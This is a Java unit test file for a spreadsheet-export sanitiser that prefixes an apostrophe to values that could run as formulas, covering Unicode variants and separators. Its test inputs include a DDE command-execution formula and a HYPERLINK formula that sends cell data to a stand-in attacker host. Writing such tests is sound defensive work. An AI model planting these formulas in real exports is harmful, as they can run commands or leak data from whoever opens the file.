package io.beacon.web.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
        "\tharmless",
        "\u0085harmless",
        "\u2028harmless",
        "\rharmless",
        "\nharmless",
        "  \t x",
        " =1",
        "    +1",
        "\u00a0=1",
        "\u3000=1",
        "\u2003 @x",
        "\ufeff=1",
        "\ufeff\ufeff -1",
        "\u200b=1",
        "\u202e=1",
        "\u0000=1",
        "\u0001\u007f=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        " \uff1d1",
        "\ufe661",
        "\ufe621",
        "\ufe631",
        "\ufe6bx",
        "\u22121",
        "\udb40\udc01=1",
      })
  void of_whatCouldRun_beginsWithAnApostrophe(String text) {
    assertThat(SpreadsheetText.of(text)).isEqualTo("'" + text.replace('\u0000', '\ufffd'));
  }

  /** Written with the apostrophe that comes in. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://inj/;'=1+41",
        "a;'+1;'-1;'@x",
        "a;b;'=1;c",
        "a\t'=1",
        "a|'=1",
        "a\n'=1",
        "a\r\n'=1",
        "a\r'=1",
        "a\u000b'=1",
        "a\f'=1",
        "a\u0085'=1",
        "a\u2028'=1",
        "a\u2029'=1",
        "a\uff1b'=1",
        "a\uff5c'=1",
        "a;' =1",
        "a;'\u00a0\ufeff\u0001=1",
        "a;'\"=1",
        "a;'\"\" \"=1",
        "a;'\uff1d1",
        "a;'\u22121",
        ";'=1",
        ";;'=1",
        "\";'=1",
        "'\t'=1",
        "'\r\n'=1",
        "'\u0085'=1",
        "'\u000b'=1",
        "'\u2028'=1",
        "'\tx;'=1",
        "'=1;'=2",
        "'=1;2",
        "(compatible; Bot/2.1;' +http://bot.example/)",
        "\uD83D\uDCA5;'=\uD83D\uDCA5"
      })
  void of_whatCouldRunBehindASeparator_getsAnApostropheThere(String safe) {
    assertThat(SpreadsheetText.of(safe.replace("'", ""))).isEqualTo(safe);
  }

  @Test
  void of_aSeparatorAtEachCharacter_takesLinearTime() {
    assertThat(SpreadsheetText.of(";=".repeat(2_000_000))).isEqualTo(";'=".repeat(2_000_000));
    assertThat(SpreadsheetText.of("; ".repeat(2_000_000))).hasSize(4_000_000);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "a;b",
        "a;'=1",
        "a; b=1",
        "a, =1",
        "{\"a\":-1,\"b\": [1, -2]}",
        "Home - Shop",
        "a\nb",
        "text/html; charset=UTF-8",
        "a;",
        "   ",
        "x=1",
        "https://shop.example/?a=1+1-2@3",
        "'=1",
        "\"=1",
        "{\"a\": \"=1\"}",
        "1-1",
        " x\t",
        "\uD83D\uDCA5=1",
        "\u00e9=",
        "_=1"
      })
  void of_otherText_isItself(String text) {
    assertThat(SpreadsheetText.of(text)).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\ud83d", "\udca5a", "a\ud83da", "a\u0000", "\ud83d\ud83d"})
  void of_whatNoReaderTakes_isReplaced(String text) {
    assertThat(SpreadsheetText.of(text))
        .isEqualTo(text.replaceAll("[\\x00\\p{Cs}]", "\ufffd"))
        .doesNotContain("\u0000", "\ud83d", "\udca5");
  }

  @ParameterizedTest
  @NullSource
  void of_null_isNull(String text) {
    assertThat(SpreadsheetText.of(text)).isNull();
  }
}
